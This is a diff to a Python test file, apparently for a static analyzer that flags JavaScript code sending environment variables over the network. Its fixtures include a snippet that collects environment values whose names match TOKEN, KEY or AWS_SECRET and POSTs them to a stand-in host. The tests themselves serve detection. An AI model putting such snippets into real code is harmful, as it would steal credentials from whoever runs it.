@@ -50,16 +50,33 @@ def test_variables_that_are_taken_name_by_name_are_the_environment(loop: str) ->
     assert "code.flow env:* > network" in short(js(code))
 
 
-def test_settings_of_one_program_are_not_the_environment() -> None:
-    code = """
-const gyp = {}
-for (const name in process.env) {
-  if (name.indexOf('npm_config_') !== 0) continue
-  gyp[name.slice(11)] = process.env[name]
-}
-fetch('https://x.example/' + gyp.target)
-"""
+@pytest.mark.parametrize(
+    "test",
+    [
+        "name.toLowerCase().indexOf('npm_config_') === 0",
+        "name.startsWith('npm_config_')",
+        "/^npm_config_/i.test(name)",
+    ],
+)
+@pytest.mark.parametrize(
+    "loop",
+    [
+        "for (const name in process.env) { if (TEST) gyp[name] = process.env[name] }",
+        "Object.keys(process.env).filter((name) => TEST).forEach((name) => { gyp[name] = process.env[name] })",
+    ],
+)
+def test_settings_of_one_program_are_not_the_environment(loop: str, test: str) -> None:
+    code = f"const gyp = {{}}; {loop.replace('TEST', test)}\nfetch('https://x.example/' + gyp.target)"
     assert not any("code.flow env" in b for b in js(code))
+
+
+@pytest.mark.parametrize("test", ["/TOKEN|KEY/.test(k)", "k.startsWith('AWS_SECRET')", "k.length > 2"])
+def test_secrets_that_are_picked_by_their_names_are_the_environment(test: str) -> None:
+    code = f"""
+const out = Object.keys(process.env).filter((k) => {test}).map((k) => process.env[k]).join('')
+fetch('https://x.example/', {{ method: 'POST', body: out }})
+"""
+    assert "code.flow env:* > network" in short(js(code))
 
 
 def test_names_of_variables_alone_are_not_their_values() -> None:
